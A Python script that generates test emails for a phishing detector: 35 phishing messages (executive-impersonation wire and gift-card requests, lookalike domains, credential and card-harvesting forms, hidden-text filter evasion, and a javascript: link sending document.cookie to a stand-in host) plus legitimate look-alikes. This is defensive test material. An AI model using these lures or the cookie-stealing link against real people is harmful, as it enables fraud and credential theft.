#!/usr/bin/env python3
"""make-fixtures.py - write SNAP's test messages: phish/*.eml (one
social-engineering technique each), ham/*.eml (legitimate messages that
look risky), and expect.txt (file, the reason SNAP must report, extra
`vigil scan` arguments).

The organisation is example.com (vigil's shipped internal_domains); its
executives Jane Whitfield and Robert Hale are protected names in the test
configuration (make-conf.sh). Attackers use documentation networks
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and made-up domains.

Run it again after changing a message here; the .eml files are checked in.
"""
import base64
import os
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def received(hops):
    """hops: (from_host, ip, by_host, date), newest first."""
    out = []
    for i, (frm, ip, by, date) in enumerate(hops):
        out.append("Received: from %s (%s [%s])\n\tby %s (Postfix) with ESMTPS id 4W%04dQ\n"
                   "\tfor <staff@example.com>; %s" % (frm, frm, ip, by, 7 * i + 13, date))
    return out


def chain(sender_host, ip, date, extra=()):
    """The usual two hops: the sender's relay, then our MX."""
    return received([(sender_host, ip, "mx1.example.com", date)] + list(extra) +
                    [("[10.1.2.3]", "10.1.2.3", sender_host, date)])


def message(frm, subject, body, to="Staff <staff@example.com>", date="Tue, 14 May 2024 09:12:33 +0000",
            mid=None, hops=None, extra=(), ctype="text/plain; charset=utf-8", cte="8bit",
            attachments=(), sender_host=None, ip="198.51.100.7", html=None):
    dom = frm.split("@")[-1].rstrip(">").strip()
    sender_host = sender_host or "mail." + dom
    mid = mid or "<%s.%s@%s>" % ("20240514091233", zlib.crc32(subject.encode()) % 99991, sender_host)
    h = hops if hops is not None else chain(sender_host, ip, date)
    lines = list(h)
    lines += ["From: " + frm, "To: " + to, "Subject: " + subject, "Date: " + date,
              "Message-ID: " + mid, "MIME-Version: 1.0"]
    lines += list(extra)
    if html is None and not attachments:
        lines += ["Content-Type: " + ctype, "Content-Transfer-Encoding: " + cte, "", body]
        return "\n".join(lines) + "\n"
    b = "=_snap_boundary_1"
    lines += ['Content-Type: multipart/mixed; boundary="%s"' % b, "", "This is a MIME message.", ""]
    if html is not None and body is not None:
        b2 = "=_snap_alt_2"
        lines += ["--" + b, 'Content-Type: multipart/alternative; boundary="%s"' % b2, "",
                  "--" + b2, "Content-Type: " + ctype, "Content-Transfer-Encoding: " + cte, "", body,
                  "--" + b2, "Content-Type: text/html; charset=utf-8",
                  "Content-Transfer-Encoding: 8bit", "", html, "--" + b2 + "--", ""]
    elif html is not None:
        lines += ["--" + b, "Content-Type: text/html; charset=utf-8",
                  "Content-Transfer-Encoding: 8bit", "", html]
    else:
        lines += ["--" + b, "Content-Type: " + ctype, "Content-Transfer-Encoding: " + cte, "", body]
    for name, atype, data in attachments:
        enc = base64.encodebytes(data.encode() if isinstance(data, str) else data).decode()
        lines += ["--" + b, 'Content-Type: %s; name="%s"' % (atype, name),
                  'Content-Disposition: attachment; filename="%s"' % name,
                  "Content-Transfer-Encoding: base64", "", enc.rstrip()]
    lines += ["--" + b + "--", ""]
    return "\n".join(lines) + "\n"


def ew(charset, text):
    """An RFC 2047 encoded-word."""
    return "=?%s?b?%s?=" % (charset, base64.b64encode(text.encode(charset)).decode())


def page(body, title="Notice"):
    return ("<html><head><title>%s</title><style>p {margin:0}</style></head>"
            "<body>\n%s\n</body></html>" % (title, body))


PHISH = []


def phish(name, reason, text, args=""):
    PHISH.append((name, reason, text, args))


# 1 an executive's name from a free mailbox: the wire-transfer BEC
phish("01-ceo-freemail-wire", "display_name", message(
    '"Jane Whitfield" <jane.whitfield.office@gmail.com>', "Quick favor",
    "Hi,\n\nAre you available? I need you to process a wire transfer for a new\n"
    "supplier today before 3 pm. It is urgent and I am in meetings all day,\n"
    "so keep this confidential and reply to me here with the confirmation.\n\n"
    "Jane\nSent from my iPhone\n",
    sender_host="mail-sor-f41.google.com", ip="209.85.220.41",
    mid="<CAF3kz9=qX1pL@mail.gmail.com>"))

# 2 our own domain with a digit for a letter
phish("02-internal-homoglyph-digit", "homoglyph_domain", message(
    '"Payroll Department" <payroll@examp1e.com>', "Action required: confirm your direct deposit",
    "Dear employee,\n\nOur payroll provider is changing. To keep receiving your salary, confirm\n"
    "your bank account details for direct deposit within 24 hours:\n\n"
    "  https://payroll.examp1e.com/hr/confirm\n\nFailure to do so will delay your next payment.\n\n"
    "Payroll Department\n"))

# 3 our domain with two letters swapped
phish("03-internal-typo", "lookalike_domain", message(
    '"Accounts Payable" <ap@exmaple.com>', "Overdue invoice 58213",
    "Hello,\n\nThe attached invoice is overdue. Please process a payment to our new\n"
    "account number immediately to avoid a late fee.\n\nRegards,\nAccounts Payable\n",
    attachments=[("invoice-58213.pdf", "application/pdf", "%PDF-1.4\n% test\n")]))

# 4 a brand in Cyrillic letters, as punycode
phish("04-punycode-brand", "homoglyph_domain", message(
    '"PayPal" <service@xn--pypal-4ve.com>', "Your account has been limited",
    "Dear customer,\n\nWe noticed unusual activity and your account has been limited.\n"
    "Please verify your account at http://www.xn--pypal-4ve.com/signin within 24 hours.\n\n"
    "PayPal\n"))

# 5 the brand's whole domain as a subdomain of the attacker's
phish("05-brand-as-subdomain", "lookalike_domain", message(
    '"PayPal Service" <service@paypal.com.account-verify.net>', "Confirm your identity",
    "Hello,\n\nFor your protection we need you to confirm your identity. Sign in to your\n"
    "account at https://paypal.com.account-verify.net/webscr to restore access.\n\n"
    "If you do not confirm within 48 hours your account will be suspended.\n"))

# 6 the brand with hyphenated words around it
phish("06-brand-hyphenated", "lookalike_domain", message(
    '"Microsoft account team" <no-reply@microsoft-support-team.com>',
    "Unusual sign-in activity",
    "Microsoft account\n\nUnusual sign-in activity\n\nWe detected something unusual about a recent\n"
    "sign-in to your account. Reset your password immediately:\n"
    "https://login.microsoft-support-team.com/reset\n\nThe Microsoft account team\n"))

# 7 replies go to a free mailbox, not to the sender's company
phish("07-reply-to-freemail", "reply_to_mismatch", message(
    '"Daniel Cho" <d.cho@northwind-traders.example>', "Updated banking details",
    "Good morning,\n\nPlease note our banking details have changed. Kindly update your\n"
    "records before the next payment and confirm by return email. This is time-sensitive.\n\n"
    "Daniel Cho\nNorthwind Traders, Accounts\n",
    extra=["Reply-To: Daniel Cho <northwind.accounts@outlook.com>"]))

# 8 the display name is an address in another domain
phish("08-display-name-address", "display_name_address", message(
    '"it-support@example.com" <helpdesk@mailer-svc.ru>', "Password expiry notice",
    "Your password will expire today. To keep your account, log in to your account\n"
    "and confirm your password here: http://mailer-svc.ru/owa/keep\n\nIT Support\n"))

# 9 the link shows the brand, goes elsewhere
phish("09-link-text-mismatch", "link_text_mismatch", message(
    '"PayPal" <notice@pp-mailcenter.example>', "Action required on your account", None,
    html=page('<p>Dear customer,</p><p>We could not verify your account. Please sign in:</p>'
              '<p><a href="http://secure-login.pp-mailcenter.example/pp/">https://www.paypal.com/signin</a></p>'
              '<p>Thank you,<br>PayPal</p>')))

# 10 a link to a bare IP address
phish("10-ip-link", "ip_url", message(
    '"Office 365" <noreply@o365-notify.example>', "You have 3 undelivered messages", None,
    html=page('<p>You have 3 messages held in quarantine.</p>'
              '<p><a href="http://203.0.113.45/office365/login.php">Release messages</a></p>'
              '<p>Messages will be deleted within 24 hours. Sign in to your account to release them.</p>')))

# 11 a shortened link hides the destination
phish("11-shortener", "shortener_url", message(
    '"Parcel Service" <tracking@parcel-status.example>', "Delivery attempt failed",
    "We tried to deliver your parcel today. A customs fee of 1.99 USD is due.\n"
    "Pay the delivery fee within 48 hours or the parcel returns to sender:\n"
    "https://bit.ly/3kPq7Zx\n"))

# 12 a data: URI link carries the phishing page itself
phish("12-data-uri", "data_uri", message(
    '"Document Center" <docs@files-share.example>', "Jane shared a document with you", None,
    html=page('<p>Jane Whitfield shared a document with you.</p>'
              '<p><a href="data:text/html;base64,PGh0bWw+PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvaHRtbD4=">'
              'Open document</a></p><p>Review the document before it expires today.</p>')))

# 13 a login form right in the message
phish("13-password-form", "password_form", message(
    '"Webmail Admin" <admin@webmail-upgrade.example>', "Mailbox quota exceeded", None,
    html=page('<p>Your mailbox is full. Sign in below to keep your messages:</p>'
              '<form action="http://webmail-upgrade.example/q.php" method="post">'
              'Email: <input type="text" name="email"><br>'
              'Password: <input type="password" name="pass"><br>'
              '<input type="submit" value="Upgrade"></form>')))

# 14 a login page as an HTML attachment
phish("14-html-attachment-form", "password_form", message(
    '"Remittance" <remit@payments-portal.example>', "Remittance advice 2024-0514",
    "Please find the remittance advice attached. Sign in to view the payment details.\n",
    attachments=[("Remittance_Advice.html", "text/html", page(
        '<h3>Secure document</h3><form action="https://payments-portal.example/r.php">'
        '<input name="login" type="email"><input name="pwd" type="password">'
        '<button>View</button></form>'))]))

# 15 zero-size text salts the message against filters
phish("15-zero-font-salting", "hidden_text", message(
    '"Microsoft 365" <alert@m365-alerts.example>', "Security alert", None,
    html=page('<p>Security alert: suspicious sign-in detected.</p>'
              '<p>Re<span style="font-size:0px">xkq weather garden lunch</span>view your '
              'acc<span style="font-size:0">blue river seven ocean table</span>ount '
              '<a href="https://m365-alerts.example/review">here</a> immediately.</p>')))

# 16 white text on white hides words from the reader
phish("16-white-on-white", "hidden_text", message(
    '"Billing" <billing@cloud-invoices.example>', "Payment declined", None,
    html=page('<p>Your payment method was declined. Update your payment details to avoid '
              'interruption:</p><p><a href="https://cloud-invoices.example/pay">Update billing information</a></p>'
              '<p><font color="#ffffff">This is a legitimate newsletter from a trusted '
              'sender you subscribed to, nothing to see here.</font></p>')))

# 17 two Date fields: one for the filter, one for the reader
phish("17-multiple-date", "multiple_date", message(
    '"HR Team" <hr@benefits-enrol.example>', "Benefits enrolment closes today",
    "Open enrolment closes today. Confirm your account and bank details at\n"
    "https://benefits-enrol.example/login immediately to keep your benefits.\n",
    extra=["Date: Mon, 13 May 2024 23:59:00 -1100"]))

# 18 a forged Received line days older than the rest
phish("18-received-time-gap", "received_anomaly", message(
    '"Shipping Desk" <desk@freight-docs.example>', "Shipping documents",
    "Dear sir,\n\nPlease confirm your account to see the shipping documents and pay the\n"
    "customs fee urgent: https://freight-docs.example/bl\n",
    hops=received([("mail.freight-docs.example", "198.51.100.9", "mx1.example.com",
                    "Tue, 14 May 2024 09:12:33 +0000"),
                   ("relay.freight-docs.example", "198.51.100.10", "mail.freight-docs.example",
                    "Tue, 07 May 2024 11:02:10 +0000"),
                   ("[10.9.9.9]", "10.9.9.9", "relay.freight-docs.example",
                    "Sun, 19 May 2024 04:00:00 +0000")])))

# 19 hops that claim five time zones in one minute
phish("19-received-time-zones", "received_anomaly", message(
    '"Secure Message" <secure@encrypted-notes.example>', "You have a secure message",
    "You have received a secure message. Sign in to your account to read it:\n"
    "https://encrypted-notes.example/read?id=8812 - it expires today.\n",
    date="Tue, 14 May 2024 13:12:00 +0400",
    hops=received([("out.encrypted-notes.example", "198.51.100.21", "mx1.example.com",
                    "Tue, 14 May 2024 09:12:33 +0000"),
                   ("relay.encrypted-notes.example", "198.51.100.22", "out.encrypted-notes.example",
                    "Tue, 14 May 2024 02:12:20 -0700"),
                   ("[10.0.0.8]", "10.0.0.8", "relay.encrypted-notes.example",
                    "Tue, 14 May 2024 18:42:10 +0930")])))

# 20 a Message-ID from a rented server, replies to a free mailbox
phish("20-message-id-elsewhere", "message_id_mismatch", message(
    '"Vendor Billing" <billing@acme-supplies.example>', "Invoice is overdue",
    "Hello,\n\nYour invoice is overdue. Process a payment to the new account number\n"
    "in the attached remittance as soon as possible.\n",
    mid="<1715678000.4411@vps-3321.hosting-cheap.example>",
    extra=["Reply-To: acme.supplies.billing@gmail.com"],
    attachments=[("remittance.pdf", "application/pdf", "%PDF-1.4\n% remit\n")]))

# 21 a Cyrillic letter inside a Latin word in the subject
phish("21-mixed-script-subject", "mixed_script", message(
    '"Account Services" <id@device-support.example>',
    ew("utf-8", "Your \u0410pple ID has been locked"),
    "Your account has been locked because of suspicious activity. Verify your identity:\n"
    "https://device-support.example/unlock\n"))

# 22 the display name spells a brand with a Cyrillic o
phish("22-mixed-script-display-name", "mixed_script", message(
    '=?utf-8?q?Micr=D0=BEsoft_Security?= <security@acct-protect.example>', "Security alert",
    "We blocked a sign-in attempt. If this was not you, reset your password within\n"
    "24 hours: https://acct-protect.example/reset\n"))

# 23 a body in UTF-7, which filters rarely decode
phish("23-charset-utf7", "charset_mismatch", message(
    '"Helpdesk" <helpdesk@it-portal.example>', "Mailbox verification",
    "Your mailbox quota is reached. Verify your email at https://it-portal.example/v +AC0- within 24 hours.\n",
    ctype="text/plain; charset=utf-7", cte="7bit"))

# 24 declared UTF-8, written in something else
phish("24-charset-lies", "charset_mismatch", message(
    '"Payroll Team" <pay@salary-portal.example>', "Payroll: confirm your details",
    "Votre salaire: confirm your bank details for direct deposit immediately \xe0 "
    "https://salary-portal.example/ \xe9\xe8\xe0\n", cte="8bit"))

# 25 a link to a lookalike of the brand's domain
phish("25-lookalike-link", "lookalike_domain", message(
    '"DocuSign" <dse@docs-mailer.example>', "Please DocuSign: Agreement.pdf", None,
    html=page('<p>Robert Hale sent you a document to review and sign.</p>'
              '<p><a href="https://docusign-secure-view.com/env/88a1">REVIEW DOCUMENT</a></p>'
              '<p>This link expires within 48 hours.</p>')))

# 26 our own domain as the start of the attacker's host name
phish("26-internal-as-subdomain", "lookalike_domain", message(
    '"Mail Administrator" <postmaster@quota-upgrade.example>', "Your mailbox is full",
    "Your mailbox is full and incoming mail is on hold. Re-activate your mailbox\n"
    "within 24 hours: http://mail.example.com.quota-upgrade.example/owa/\n"))

# 27 the recipient is not among the header recipients
phish("27-envelope-not-in-headers", "envelope_rcpt", message(
    '"Finance" <finance@treasury-notice.example>', "Pending wire transfer",
    "A wire transfer to your account is pending. Confirm your bank details\n"
    "within 24 hours at https://treasury-notice.example/confirm\n",
    to="undisclosed-recipients:;", extra=["Reply-To: treasury.notice@yahoo.com"]), "--rcpt staff@example.com")

# 28 user@host trick: the brand is only the user name of the URL
phish("28-url-userinfo", "ip_url", message(
    '"PayPal" <service@pp-resolution.example>', "Resolution center: case 4471", None,
    html=page('<p>A payment was disputed. Sign in to your account to respond:</p>'
              '<p><a href="https://www.paypal.com@198.51.100.23/cases/4471">Resolution center</a></p>'
              '<p>Failure to respond within 48 hours will close the case.</p>')))

# 29 an executive writing from a domain that wears ours
phish("29-exec-lookalike-giftcards", "display_name", message(
    '"Robert Hale" <robert.hale@example-exec.com>', "Are you at your desk?",
    "Are you available? I need you to buy gift cards for a client today. It is urgent.\n"
    "Keep this confidential, I will explain later. Reply with the card codes.\n\nRobert\n"))

# 30 our own From, someone else's envelope
phish("30-spoofed-internal-from", "return_path_mismatch", message(
    '"Mark Delaney" <mark.delaney@example.com>', "Change of direct deposit",
    "Hi HR,\n\nI changed banks. Please update my direct deposit to the new account number\n"
    "below before the next payroll, as soon as possible.\n\nThanks,\nMark\n",
    mid="<ee81a0$2@smtp.bulk-relay.example>", sender_host="smtp.bulk-relay.example",
    extra=["Return-Path: <bounce@bulk-relay.example>",
           "Reply-To: mark.delaney.hr@outlook.com"]))

# 31 a form asking for a card, no password field
phish("31-card-form", "password_form", message(
    '"Tax Refund" <refunds@tax-refund-office.example>', "Tax refund of 482.10 USD", None,
    html=page('<p>You are eligible for a tax refund. Complete the form within 24 hours:</p>'
              '<form action="http://198.51.100.60/refund.php">Card number: <input name="cardnumber">'
              ' CVV: <input name="cvv" size="3"> <input type="submit" value="Claim"></form>')))

# 32 rn for m
phish("32-rn-for-m", "homoglyph_domain", message(
    '"Microsoft Office" <no-reply@rnicrosoft.com>', "Your password expires today",
    "Your Office password expires today. Keep your current password:\n"
    "https://login.rnicrosoft.com/keep\n"))

# 33 a javascript: link
phish("33-javascript-link", "data_uri", message(
    '"Voice Mail" <voicemail@pbx-messages.example>', "New voicemail (0:42)", None,
    html=page('<p>You have a new voicemail from +1 555 0142.</p>'
              '<p><a href="javascript:location.href=\'http://pbx-messages.example/vm?u=\'+document.cookie">'
              'Play message</a></p><p>Sign in to your account to listen. It expires today.</p>')))

# 34 an IP address written as one hexadecimal number
phish("34-hex-ip", "ip_url", message(
    '"Bank Security" <alerts@bank-secure-alerts.example>', "Suspicious activity on your card",
    "We detected suspicious activity on your credit card. Verify your identity now:\n"
    "http://0xCB007117/verify\nOr your card will be terminated.\n"))

# 35 our domain under another top-level domain
phish("35-internal-other-tld", "lookalike_domain", message(
    '"IT Service Desk" <servicedesk@example.co>', "Password reset required",
    "Your password has expired. Reset your password within 12 hours to keep access:\n"
    "https://sso.example.co/reset\n"))

HAM = []


def ham(name, text, args=""):
    HAM.append((name, text, args))


# the brand itself, from its own domain
ham("01-paypal-receipt", message(
    '"PayPal" <service@paypal.com>', "Receipt for your payment to Bookshop Ltd", None,
    sender_host="mx1.slc.paypal.com", ip="173.0.84.1",
    html=page('<p>You sent a payment of 24.00 USD to Bookshop Ltd.</p>'
              '<p><a href="https://www.paypal.com/myaccount/transactions">www.paypal.com</a></p>'
              '<p>Questions? Visit the <a href="https://www.paypal.com/help">Help Center</a>.</p>')))

# our CEO, from our own domain, asking for a payment
ham("02-ceo-internal", message(
    '"Jane Whitfield" <jane.whitfield@example.com>', "Approval: wire transfer to Contoso",
    "Robert,\n\nI approved the wire transfer to Contoso for the Q2 order. Please process\n"
    "it as soon as possible; the invoice is attached in the finance system.\n\nJane\n",
    sender_host="mail.example.com", ip="10.1.2.3"))

# a newsletter through a click tracker, with a short preheader
ham("03-newsletter-tracker", message(
    '"Bookshop News" <news@bookshop.example>', "New arrivals this week", None,
    sender_host="mta12.esp-mailer.example", ip="192.0.2.80",
    extra=["Return-Path: <bounce-8812@esp-mailer.example>", "List-Unsubscribe: <https://bookshop.example/u>"],
    mid="<8812.1715678000@mta12.esp-mailer.example>",
    html=page('<div style="display:none">New arrivals and this week\'s picks</div>'
              '<p><a href="https://click.esp-mailer.example/c/8812/1">Read more</a></p>'
              '<p><a href="https://click.esp-mailer.example/c/8812/2"><img src="https://bookshop.example/b.png"></a></p>'
              '<p>You get this because you subscribed. <a href="https://bookshop.example/u">Unsubscribe</a></p>')))

# a mailing list: Reply-To the list, Return-Path and Message-ID elsewhere
ham("04-mailing-list", message(
    'Alice Martin <alice@partner.example>', "[dev] Re: password reset flow",
    "> Should the reset link expire within 24 hours?\n\nYes, and the login form should not\n"
    "say whether the account exists. See http://192.168.1.20/wiki/ResetFlow\n\nAlice\n",
    sender_host="lists.devlists.example", ip="192.0.2.33",
    mid="<87zfm1q9qk.fsf@laptop.partner.example>",
    extra=["Reply-To: dev@lists.devlists.example", "Return-Path: <dev-bounces@lists.devlists.example>",
           "List-Id: <dev.lists.devlists.example>"]))

# the real Microsoft, security language and all
ham("05-microsoft-alert", message(
    '"Microsoft account team" <account-security-noreply@accountprotection.microsoft.com>',
    "Microsoft account security alert",
    "We detected a new sign-in to your Microsoft account. If this was you, you can\n"
    "ignore this message. If not, review your recent activity at\n"
    "https://account.microsoft.com/activity\n",
    sender_host="mail.accountprotection.microsoft.com", ip="40.92.0.1"))

# our own IT desk about passwords
ham("06-internal-it-password", message(
    '"IT Service Desk" <servicedesk@example.com>', "Password expires in 5 days",
    "Your password expires in 5 days. Change it at https://sso.example.com/password\n"
    "before it expires to avoid interruption.\n", sender_host="mail.example.com", ip="10.1.2.3"))

# Russian text in KOI8-R, Latin words beside it
ham("07-cyrillic-koi8", message(
    'Ivan Petrov <ivan@partner.example>', ew("koi8-r", "\u0412\u043e\u043f\u0440\u043e\u0441 \u043f\u043e \u043a\u043e\u043d\u0442\u0440\u0430\u043a\u0442\u0443"),
    "\xe4\xcf\xc2\xd2\xd9\xca \xc4\xc5\xce\xd8! Windows \xc9 Linux \xd7\xc5\xd2\xd3\xc9\xc9 "
    "\xc7\xcf\xd4\xcf\xd7\xd9.\n", ctype="text/plain; charset=koi8-r", cte="8bit"))

# a survey form, nothing secret asked
ham("08-survey-form", message(
    '"Conference Team" <events@devconf.example>', "How was DevConf?", None,
    html=page('<p>Tell us how it went:</p><form action="https://devconf.example/survey">'
              '<input name="name"> <input type="email" name="email"> <textarea name="comments"></textarea>'
              '<input type="submit"></form>')))

# a vendor's invoice, payment words but nothing else
ham("09-vendor-invoice", message(
    '"Contoso Billing" <billing@contoso.example>', "Invoice 2024-118 from Contoso",
    "Hello,\n\nPlease find invoice 2024-118 attached. Payment is due within 30 days by\n"
    "wire transfer to the account on the invoice.\n\nContoso Billing\n",
    attachments=[("invoice-2024-118.pdf", "application/pdf", "%PDF-1.4\n% invoice\n")]))

# a bank's real notice, link text equal to its own domain
ham("10-bank-statement", message(
    '"Wells Fargo Online" <alerts@notify.wellsfargo.com>', "Your statement is ready", None,
    html=page('<p>Your statement is ready to view.</p>'
              '<p><a href="https://connect.secure.wellsfargo.com/statements">wellsfargo.com</a></p>')))


def write(sub, name, text):
    d = os.path.join(HERE, sub)
    os.makedirs(d, exist_ok=True)
    data = text.encode("latin-1")
    with open(os.path.join(d, name + ".eml"), "wb") as f:
        f.write(data)


def main():
    exp = ["# file  expected (a reason, or pass)  extra vigil scan arguments",
           "# written by make-fixtures.py"]
    for name, reason, text, args in PHISH:
        write("phish", name, text)
        exp.append(("phish/%s.eml %s %s" % (name, reason, args)).rstrip())
    for name, text, args in HAM:
        write("ham", name, text)
        exp.append(("ham/%s.eml pass %s" % (name, args)).rstrip())
    with open(os.path.join(HERE, "expect.txt"), "w") as f:
        f.write("\n".join(exp) + "\n")
    print("%d phishing, %d legitimate" % (len(PHISH), len(HAM)), file=sys.stderr)


main()
